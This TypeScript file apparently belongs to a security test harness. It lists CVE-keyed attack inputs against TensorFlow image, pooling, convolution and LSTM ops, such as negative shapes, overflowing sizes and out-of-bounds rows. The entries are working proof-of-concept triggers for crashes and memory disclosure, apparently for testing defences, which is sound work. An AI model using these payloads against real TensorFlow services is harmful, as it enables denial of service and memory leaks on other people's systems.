// Attacks on convolutions, pools, images, sound and recurrent blocks: places and sizes that are computed from what the caller says.
import { attrBool, attrType } from '../../support/graph-builder.ts';
import { type Attack, fixed, request } from './attack.ts';
import { constF32, constF64, constI64, f16, f32, i32, i64, ints, shaped, text } from './values.ts';

const float = attrType('DT_FLOAT');
const int32 = attrType('DT_INT32');
const valid = text('VALID');
const unit = ints(1, 1, 1, 1);
const unit3 = ints(1, 1, 1, 1, 1);
/** Rows: gigabytes away, where no process has memory, and not so far that 32 bits wrap. */
const far = 500_000_000;

export const imageAttacks: readonly Attack[] = [
  {
    cve: 'CVE-2022-35959',
    op: 'AvgPool3DGrad',
    trigger: 'a shape with sizes below zero',
    inputs: [request(i32([5], -1), { ...shaped(5), min: 1, max: 65_536 }), constF32([1, 1, 1, 1, 1], 1)],
    attrs: { T: float, ksize: unit3, strides: unit3, padding: valid },
  },
  {
    cve: 'CVE-2022-35968',
    op: 'AvgPoolGrad',
    trigger: 'a shape with sizes below zero',
    inputs: [request(i32([4], -1), { ...shaped(4), min: 1, max: 65_536 }), constF32([1, 1, 1, 1], 1)],
    attrs: { T: float, ksize: unit, strides: unit, padding: valid },
  },
  {
    cve: 'CVE-2023-25664',
    op: 'AvgPoolGrad',
    trigger: 'fewer gradients than the image has windows',
    inputs: [request(i32([4], 1, 64, 64, 1), { ...shaped(4), min: 1, max: 1 }), constF32([1, 1, 1, 1], 1)],
    attrs: { T: float, ksize: unit, strides: ints(1, 2, 2, 1), padding: valid },
    // One gradient was given, so at most one of 4096 places is not 0.
    isForeign: (output) => output.bytes.subarray(4).some((byte) => byte !== 0),
  },
  {
    cve: 'CVE-2022-35963',
    op: 'FractionalAvgPoolGrad',
    trigger: 'sizes whose product overflows',
    inputs: [
      request(i64([4], 2 ** 40, 2 ** 40, 2, 2), { ...shaped(4), min: 1, max: 65_536 }),
      constF64([1, 2, 2, 1], 1),
      constI64([3], 0, 1, 2),
      constI64([3], 0, 1, 2),
    ],
    attrs: { T: attrType('DT_DOUBLE') },
    output: ['attack:0', 'DT_DOUBLE'],
  },
  {
    cve: 'CVE-2022-35981',
    op: 'FractionalMaxPoolGrad',
    trigger: 'gradients of another shape than the output',
    inputs: [
      constF32([1, 2, 2, 1], 1),
      constF32([1, 1, 1, 1], 1),
      request(f32([1, 2, 2, 2], 1), shaped(1, 1, 1, 1)),
      constI64([2], 0, 1),
      constI64([2], 0, 1),
    ],
    attrs: { T: float },
  },
  {
    cve: 'CVE-2022-41897',
    op: 'FractionalMaxPoolGrad',
    trigger: 'rows outside of the image',
    inputs: [
      constF32([2, 2, 2, 2], 1),
      constF32([2, 2, 2, 2], 1),
      constF32([2, 2, 2, 2], 1),
      request(i64([3], -far, -far, far), { ...shaped(-1), min: 0, max: 2 }),
      request(i64([3], -far, -far, far), { ...shaped(-1), min: 0, max: 2 }),
    ],
    attrs: { T: float },
  },
  {
    cve: 'CVE-2022-35969',
    op: 'Conv2DBackpropInput',
    trigger: 'sizes that are a matrix',
    inputs: [request(i32([1, 4], 1), shaped(4)), constF32([1, 1, 1, 1], 1), constF32([1, 1, 1, 1], 1)],
    attrs: { T: float, strides: unit, padding: valid },
  },
  {
    cve: 'CVE-2023-25661',
    op: 'Conv3DBackpropInputV2',
    trigger: 'sizes whose product overflows',
    inputs: [
      request(i32([5], 65_536, 65_536, 65_536, 65_536, 1), { ...shaped(5), min: 1, max: 64 }),
      constF32([1, 1, 1, 1, 1], 1),
      constF32([1, 1, 1, 1, 1], 1),
    ],
    attrs: { T: float, Tshape: int32, strides: unit3, padding: valid },
  },
  {
    cve: 'CVE-2022-36001',
    op: 'DrawBoundingBoxes',
    trigger: 'images of half precision',
    inputs: [fixed(f16([1, 2, 2, 3])), constF32([1, 1, 4], 0, 0, 1, 1)],
    attrs: { T: attrType('DT_HALF') },
    output: ['attack:0', 'DT_HALF'],
  },
  {
    cve: 'CVE-2022-41886',
    op: 'ImageProjectiveTransformV2',
    trigger: 'a size whose product overflows',
    inputs: [
      constF32([1, 2, 2, 1024], 1),
      constF32([1, 8], 1),
      request(i32([2], 0x7fff_ffff), { ...shaped(2), min: 1, max: 4096 }),
    ],
    attrs: { dtype: float, interpolation: text('NEAREST') },
  },
  {
    cve: 'CVE-2022-41907',
    op: 'ResizeNearestNeighborGrad',
    trigger: 'a size whose product overflows',
    inputs: [constF32([1024, 1, 1, 1024], 1), request(i32([2], 0x7fff_ffff), { ...shaped(2), min: 1, max: 4096 })],
    attrs: { T: float },
  },
  {
    cve: 'CVE-2022-41895',
    op: 'MirrorPadGrad',
    trigger: 'paddings far outside of the tensor',
    inputs: [constF32([1], 1), request(i32([1, 2], 0x77f0_0000, 0x0a00_0000), { ...shaped(1, 2), min: 0, max: 1 })],
    attrs: { T: float, Tpaddings: int32, mode: text('REFLECT') },
  },
  {
    cve: 'CVE-2022-35965',
    op: 'LowerBound',
    trigger: 'a list to search that is empty',
    inputs: [request(f32([4, 0]), shaped(4, 4)), constF32([4], 1)],
    attrs: { T: float, out_type: int32 },
    output: ['attack:0', 'DT_INT32'],
  },
  {
    cve: 'CVE-2023-33976',
    op: 'UpperBound',
    trigger: 'a list to search that is empty',
    inputs: [request(f32([4, 0]), shaped(4, 4)), constF32([4], 1)],
    attrs: { T: float, out_type: int32 },
    output: ['attack:0', 'DT_INT32'],
  },
  {
    cve: 'CVE-2022-35964',
    op: 'BlockLSTMGradV2',
    trigger: 'states and gradients that are empty',
    inputs: [
      constI64([], 1),
      constF32([1, 1, 1], 1),
      constF32([1, 1], 1),
      constF32([1, 1], 1),
      constF32([2, 4], 1),
      ...[1, 1, 1].map(() => constF32([0])),
      constF32([4], 1),
      ...Array.from({ length: 9 }, () => constF32([0, 0, 0])),
    ],
    attrs: { T: float, use_peephole: attrBool(true) },
  },
];
